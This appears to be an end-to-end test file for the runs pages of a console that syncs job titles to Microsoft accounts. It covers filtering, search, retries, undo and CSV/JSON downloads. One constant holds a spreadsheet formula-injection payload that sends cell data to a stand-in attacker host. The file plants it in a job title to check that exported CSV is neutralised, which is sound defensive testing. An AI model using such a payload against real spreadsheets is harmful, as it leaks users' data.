import { readFile } from "node:fs/promises";
import type { Page } from "playwright-core";
import { beforeAll, describe, expect, test } from "vitest";
import type { RunView } from "../../../src/api/runs.ts";
import { ordinaryPerson } from "../ordinary-people.ts";
import { syncedCompany } from "../synced-company.ts";
import { describeConsole, expectAccessible, keepPicture, withConsole } from "./with-console.ts";

const formula = '=HYPERLINK("https://evil.example/?"&A1,"Se her")';

describeConsole("runs", () => {
  const { scene, open } = withConsole({ company: syncedCompany(60) });

  test("have an empty page as long as there are none", async () => {
    const page = await open({ at: "runs" });
    await page.getByRole("heading", { name: "There has been no run in the last month." }).waitFor();
    await expectAccessible(page);
    await keepPicture(page, "runs-empty");
  });

  test("that do not exist are reported as missing, with a link back", async () => {
    const page = await open({ at: "runs/20260101T000000Z-aaaaaa" });
    await page.getByRole("heading", { name: "This run does not exist (any more)." }).waitFor();
    await expectAccessible(page);
    await page.getByRole("link", { name: "To the runs" }).click();
    await page.getByRole("heading", { name: "Runs", exact: true }).waitFor();
  });

  describe("of everyone and of one person", () => {
    let everyone: RunView;
    let one: RunView;
    let dry: RunView;
    const her = () => ordinaryPerson(scene(), 0);
    const him = () => ordinaryPerson(scene(), 1);

    beforeAll(async () => {
      const { life, microsoft, sync } = scene();
      dry = await sync({ mode: "preview" });
      one = await sync({ emails: [her()] });
      await life.changeTitle(her(), formula);
      await life.changeTitle(him(), "Fagansvarlig");
      const refusal = { status: 400, code: "Request_BadRequest", message: `${formula} is not valid.` };
      microsoft.faults.add({ method: "PATCH", user: her(), ...refusal });
      everyone = await sync();
      microsoft.faults.clear();
    });

    test("are listed, newest first, and filtered by an address that can be bookmarked", async () => {
      const page = await open({ at: "runs" });
      const rows = page.locator("[data-run]");
      await rows.first().waitFor();
      const ids = () => rows.evaluateAll((all) => all.map((row) => row.getAttribute("data-run")));
      expect(await ids()).toEqual([everyone.id, one.id, dry.id]);
      await page.getByLabel("Kind").selectOption({ label: "Dry run" });
      await expect.poll(ids).toEqual([dry.id]);
      expect(page.url()).toContain("mode=preview");
      await page.getByLabel("Kind").selectOption({ label: "All" });
      await page.getByLabel("Scope", { exact: true }).selectOption({ label: "Some people" });
      await expect.poll(ids).toEqual([one.id]);
      await page.reload();
      await rows.first().waitFor();
      expect(await ids()).toEqual([one.id]);
      await page.getByLabel("Status").selectOption({ label: "Held" });
      await page.getByRole("heading", { name: "No run matches these filters." }).waitFor();
      await expectAccessible(page);
      await page.getByRole("link", { name: "Show all runs" }).click();
      await expect.poll(ids).toEqual([everyone.id, one.id, dry.id]);
    });

    test("list each person's outcome, failures first, and can be searched", async () => {
      const page = await open({ at: `runs/${everyone.id}` });
      const outcomes = page.locator("[data-outcome]");
      await outcomes.first().waitFor();
      expect(await outcomes.first().getAttribute("data-person")).toBe(her());
      expect(await outcomes.first().innerText()).toMatch(/failed[\s\S]*Request /i);
      await expectAccessible(page);
      await page.getByLabel("Find an e-mail or name").fill(him().slice(0, him().indexOf("@")));
      await page.getByText(/^1 of \d+ outcomes$/).waitFor();
      await outcomes.getByText("Wrote Job title").waitFor();
      await page.getByLabel("Find an e-mail or name").fill("nobody at all");
      await page.getByRole("button", { name: "Show all outcomes" }).click();
      await page.getByLabel("Status").selectOption({ label: "Failed" });
      await page.getByText(/^1 of \d+ outcomes$/).waitFor();
      await page.getByRole("tab", { name: "Plan" }).click();
      await page
        .getByText(/^\d people would change/)
        .first()
        .waitFor();
      expect(page.url()).toContain("tab=plan");
      await expectAccessible(page);
      await keepPicture(page, "run-plan");
    });

    test("can be downloaded as CSV that no spreadsheet executes", async () => {
      const page = await open({ at: `runs/${everyone.id}` });
      const { name, text } = await downloaded(page, "Outcomes (CSV)");
      expect(name).toBe(`${everyone.id}-outcomes.csv`);
      expect(text).toMatch(/^\ufeffemail,target,status,fields,code,message,remedy,/);
      const [, ...cells] = [...text.matchAll(/(?<=^|,|\n)("(?:[^"]|"")*"|[^,\r\n]*)/g)].map(([cell]) => cell);
      expect(text).toContain(her());
      expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([]);
    });

    test("can be downloaded as JSON, and so can their plan", async () => {
      const page = await open({ at: `runs/${everyone.id}` });
      const outcomes = await downloaded(page, "Outcomes (JSON)");
      expect(outcomes.name).toBe(`${everyone.id}-outcomes.json`);
      const failed = { email: her(), status: "failed" };
      expect(JSON.parse(outcomes.text).outcomes).toContainEqual(expect.objectContaining(failed));
      const plan = await downloaded(page, "Plan (JSON)");
      expect(plan.name).toBe(`${everyone.id}-plan.json`);
      expect(JSON.parse(plan.text)).toMatchObject({ digest: everyone.plan?.digest });
    });

    test("that failed in part can be retried from their own page", async () => {
      const page = await open({ at: `runs/${everyone.id}` });
      await page.getByRole("button", { name: "Retry the failed" }).click();
      await page.getByRole("listitem").filter({ hasText: "The failures are tried again" }).waitFor();
      await page.getByRole("main").getByText("2 people changed").first().waitFor();
      expect(await page.getByRole("button", { name: "Retry the failed" }).count()).toBe(0);
      expect(scene().microsoft.users.get(her())?.jobTitle).toBe(formula);
    });

    test("that have written are undone from their own page, after a look at the plan", async () => {
      const page = await open({ at: `runs/${everyone.id}` });
      await page.getByRole("button", { name: "Undo…" }).click();
      await page.getByRole("heading", { name: "Undo run" }).waitFor();
      const putBack = page.getByRole("button", { name: /^Put back \d+ changes of 2 people$/ });
      await putBack.waitFor();
      await expectAccessible(page);
      await putBack.click();
      await page.getByRole("main").getByText("2 people changed").first().waitFor();
      expect(scene().microsoft.users.get(her())?.jobTitle).not.toBe(formula);
    });
  });
});

/** The file that an entry of the download menu saves. */
async function downloaded(page: Page, item: string): Promise<{ name: string; text: string }> {
  await page.getByRole("button", { name: "Download" }).click();
  const file = page.waitForEvent("download");
  await page.getByRole("menuitem", { name: item }).click();
  const download = await file;
  return { name: download.suggestedFilename(), text: await readFile(await download.path(), "utf8") };
}
